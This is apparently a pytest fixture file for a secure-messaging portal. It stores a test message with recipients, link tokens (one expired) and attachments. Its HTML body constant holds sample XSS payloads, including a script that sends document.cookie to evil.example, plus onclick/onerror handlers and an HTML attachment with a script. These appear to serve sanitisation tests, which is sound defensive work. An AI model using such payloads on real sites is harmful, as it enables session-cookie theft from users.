"""Portal fixtures: a stored message built straight in the database and vault (no intake).

One message from Alice to bob (To) and carol (Cc) in one conversation, each with a link; bob
also has an expired link. The readable form has a text body, an HTML body with a <script>
and an onclick, and two attachments: a small HTML file with a non-ASCII name and 200 KB of
random bytes.
"""

from __future__ import annotations

import os
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import timedelta

import httpx
import pytest
from sqlalchemy import select

from sealgate.bootstrap import Runtime
from sealgate.intake.readable import Attachment, ReadableMessage
from sealgate.notify import new_token
from sealgate.portal import create_app
from sealgate.store import (
    Account,
    Conversation,
    LinkToken,
    Message,
    Recipient,
    Submission,
    new_id,
    utcnow,
)
from tests.conftest import Sender
from tests.portal.guest import GuestBrowser

SUBJECT = "Lab results for March"
TEXT_BODY = "Dear Bob,\n\nyour lab results are attached.\n\nKind regards,\nAlice"
HTML_BODY = (
    '<p onclick="steal()">Dear Bob, your <b>lab results</b> are attached.</p>'
    "<script>document.location='https://evil.example/?'+document.cookie</script>"
    '<img src="https://tracker.example/pixel.gif" onerror="steal()">'
)
HTML_ATTACHMENT = b"<html><script>alert('attachment')</script><p>Overview</p></html>"
HTML_ATTACHMENT_NAME = 'Übersicht "März".html'


@dataclass(frozen=True)
class Guest:
    address: str
    recipient_id: str
    token: str


@dataclass(frozen=True)
class StoredMessage:
    message_id: str
    bob: Guest
    carol: Guest
    expired_token: str
    readable: ReadableMessage
    attachments: tuple[bytes, ...]


def _link(session, recipient_id: str, expires_in: timedelta) -> str:  # type: ignore[no-untyped-def]
    token, token_hash = new_token()
    session.add(
        LinkToken(
            recipient_id=recipient_id, token_hash=token_hash, expires_at=utcnow() + expires_in
        )
    )
    return token


def store_message(rt: Runtime, sender: Sender) -> StoredMessage:
    now = utcnow()
    binary = os.urandom(200 * 1024)
    contents = (HTML_ATTACHMENT, binary)
    readable = ReadableMessage(
        subject=SUBJECT,
        sender=f"{sender.name} <{sender.address}>",
        to=("bob@example.org",),
        cc=("carol@example.net",),
        date="Tue, 03 Mar 2026 10:00:00 +0100",
        text=TEXT_BODY,
        html=HTML_BODY,
        attachments=(
            Attachment(
                HTML_ATTACHMENT_NAME,
                "text/html",
                len(HTML_ATTACHMENT),
                rt.vault.put_bytes(HTML_ATTACHMENT),
            ),
            Attachment(
                "scan.bin",
                "application/octet-stream",
                len(binary),
                rt.vault.put([binary[i : i + 65536] for i in range(0, len(binary), 65536)]),
            ),
        ),
    )
    with rt.db.begin() as session:
        account = session.scalars(select(Account).where(Account.email == sender.address)).one()
        submission = Submission(
            id=new_id(),
            org_id=account.org_id,
            account_id=account.id,
            mail_from=sender.address,
            rcpt_to=["bob@example.org", "carol@example.net"],
            blob_id=rt.vault.put_bytes(b"raw"),
            size=3,
            state="done",
            received_at=now,
        )
        session.add(submission)
        session.flush()
        message = Message(
            id=new_id(),
            submission_id=submission.id,
            org_id=account.org_id,
            sender_account_id=account.id,
            sender_address=sender.address,
            sender_name=sender.name,
            content_blob_id=rt.vault.put_bytes(readable.to_json()),
            control_headers={},
            created_at=now,
        )
        session.add(message)
        session.flush()
        conversation = Conversation(id=new_id(), message_id=message.id, kind="to_cc")
        session.add(conversation)
        session.flush()
        guests = {}
        for address, role in (("bob@example.org", "to"), ("carol@example.net", "cc")):
            recipient = Recipient(
                id=new_id(),
                conversation_id=conversation.id,
                message_id=message.id,
                address=address,
                role=role,
                method="verification_email",
                delivery="notification",
                decision={},
                opened_at=None,
                created_at=now,
            )
            session.add(recipient)
            session.flush()
            guests[role] = Guest(
                address, recipient.id, _link(session, recipient.id, timedelta(days=90))
            )
        expired = _link(session, guests["to"].recipient_id, timedelta(seconds=-1))
    return StoredMessage(message.id, guests["to"], guests["cc"], expired, readable, contents)


@pytest.fixture
def stored(runtime: Runtime, sender: Sender) -> StoredMessage:
    return store_message(runtime, sender)


@pytest.fixture
async def client(runtime: Runtime) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=create_app(runtime))
    async with httpx.AsyncClient(
        transport=transport, base_url=runtime.settings.web.base_url
    ) as client:
        yield client


@pytest.fixture
def browser(client: httpx.AsyncClient) -> GuestBrowser:
    return GuestBrowser(client)
